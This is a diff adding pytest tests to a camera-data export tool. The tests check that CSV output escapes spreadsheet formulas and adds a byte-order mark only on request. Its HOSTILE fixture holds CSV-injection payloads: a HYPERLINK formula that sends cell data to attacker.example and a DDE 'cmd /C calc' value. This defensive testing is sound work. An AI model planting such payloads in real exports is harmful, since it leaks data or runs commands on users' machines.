@@ -139,6 +139,67 @@ def test_csv_is_one_row_per_camera_with_directions_joined():
     assert (row["directions"], row["vendor"], row["vendor_raw"]) == ("0;180", "acme", "ACME Corp")
 
 
+# Text anyone may send that a spreadsheet would run as a formula.
+HOSTILE = {
+    "vendor_raw": '=HYPERLINK("https://attacker.example/?x="&A1,"Flock")',
+    "operator_raw": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "product": "+1+2",
+}
+
+
+def test_csv_text_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers():
+    camera = CameraFactory(location=Point(-87.63, -41.5, srid=4326), tilt=-30, **HOSTILE)
+
+    text = written(csv_lines)
+
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert (row["vendor_raw"], row["operator_raw"], row["product"]) == (
+        "'" + HOSTILE["vendor_raw"],
+        "'" + HOSTILE["operator_raw"],
+        "'+1+2",
+    )
+    assert (row["id"], row["longitude"], row["latitude"], row["tilt"]) == (
+        str(camera.pk),
+        "-87.63",
+        "-41.5",
+        "-30.0",
+    )
+    assert not text.startswith(exports.BYTE_ORDER_MARK)
+
+
+@pytest.mark.parametrize(
+    ("cell", "written_as"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+2", "'\t=1+2"),
+        ("\r=1+2", "'\r=1+2"),
+        ("-", "'-"),
+        # Text already starting with a quote before a formula keeps its quote.
+        ("'=1+2", "''=1+2"),
+        ("''@x", "'''@x"),
+        # Nothing a spreadsheet would run: as it is.
+        ("'quoted", "'quoted"),
+        ("Flock Safety", "Flock Safety"),
+        ("a=b", "a=b"),
+        ("", ""),
+        # Plain numbers, as text or not, are numbers.
+        ("-87.63", "-87.63"),
+        ("+5", "+5"),
+        ("-1e-3", "-1e-3"),
+        (-87.63, -87.63),
+        (-30, -30),
+        (None, None),
+    ],
+)
+def test_formula_escaping_quotes_what_would_run_and_the_import_undoes_it(cell, written_as):
+    assert exports.escape_formula(cell) == written_as
+    if isinstance(cell, str):
+        assert exports.unescape_formula(written_as) == cell
+
+
 # ---------------------------------------------------------------- OSM XML
 
 
@@ -367,6 +428,25 @@ def test_command_writes_the_file_and_reports_attribution_and_counts(tmp_path):
     assert "2 cameras exported" in err
     assert "1 tags dropped: 1 over OSM's 255-character limit" in err
     assert [p.name for p in tmp_path.iterdir()] == ["cameras.osm"]
+
+
+def test_command_csv_escapes_formulas_and_starts_with_a_bom_only_when_asked(tmp_path):
+    CameraFactory(location=Point(-87.63, 41.88, srid=4326), **HOSTILE)
+    plain, marked = tmp_path / "plain.csv", tmp_path / "marked.csv"
+
+    export("--format", "csv", "-o", str(plain))
+    export("--format", "csv", "--bom", "-o", str(marked))
+
+    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
+    assert marked.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
+    row = next(csv.DictReader(io.StringIO(plain.read_text(encoding="utf-8"))))
+    assert row["vendor_raw"] == "'" + HOSTILE["vendor_raw"]
+    assert row["longitude"] == "-87.63"
+
+
+def test_command_bom_applies_to_csv_only():
+    with pytest.raises(CommandError, match="--bom applies to --format csv only"):
+        export("--format", "geojson", "--bom")
 
 
 def test_command_writes_to_standard_output_by_default():
